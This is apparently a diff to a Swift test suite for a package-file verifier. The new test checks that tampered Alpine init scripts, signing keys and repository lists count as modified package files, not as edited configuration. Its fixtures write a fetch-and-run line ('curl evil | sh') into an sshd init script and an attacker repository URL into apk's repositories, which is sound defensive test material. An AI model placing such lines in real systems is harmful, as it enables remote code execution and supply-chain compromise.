@@ -9,6 +9,39 @@ import TestSupport
 /// Small hand-made roots: Alpine's database, Python RECORDs, a dpkg database with diversions and conffile
 /// states, links that leave the root.
 @Suite struct VerifyFilesRootsTests {
+    /// apk's protected paths (`+etc`, `@etc/init.d`, `!etc/apk`): a changed init script or signing key
+    /// is a modified package file, not an edited configuration file (found by helper-131).
+    @Test func apkInitScriptsAndKeysAreNotConfiguration() throws {
+        let root = try TestRoot.make("verify-apk-protected")
+        defer { try? FileManager.default.removeItem(at: root) }
+        let sshd = "#!/sbin/openrc-run\n", key = "-----BEGIN PUBLIC KEY-----\n", repos = "https://dl-cdn.alpinelinux.org/alpine/v3.19/main\n"
+        let conf = "Port 22\n"
+        try TestRoot.write(root, "etc/init.d/sshd", sshd + "curl evil | sh\n", mode: 0o755)
+        try TestRoot.write(root, "etc/apk/keys/alpine.rsa.pub", key + "other\n")
+        try TestRoot.write(root, "etc/apk/repositories", repos + "https://evil.example/alpine\n")
+        try TestRoot.write(root, "etc/ssh/sshd_config", conf + "PermitRootLogin yes\n")
+        try TestRoot.write(root, "lib/apk/db/installed", """
+            P:openssh
+            V:9.6_p1-r0
+            F:etc/init.d
+            R:sshd
+            Z:\(TestRoot.apkHash(sshd))
+            F:etc/apk/keys
+            R:alpine.rsa.pub
+            Z:\(TestRoot.apkHash(key))
+            F:etc/apk
+            R:repositories
+            Z:\(TestRoot.apkHash(repos))
+            F:etc/ssh
+            R:sshd_config
+            Z:\(TestRoot.apkHash(conf))
+
+            """)
+        let r = try VerifyRun.run(root.path)
+        #expect(r.rule("files:modified") == ["/etc/apk/keys/alpine.rsa.pub", "/etc/apk/repositories", "/etc/init.d/sshd"], "\(r.findings)")
+        #expect(r.rule("files:conffile-modified") == ["/etc/ssh/sshd_config"], "\(r.findings)")
+    }
+
     @Test func apkDigestsMissingConfigAndUnowned() throws {
         let root = try TestRoot.make("verify-apk")
         defer { try? FileManager.default.removeItem(at: root) }
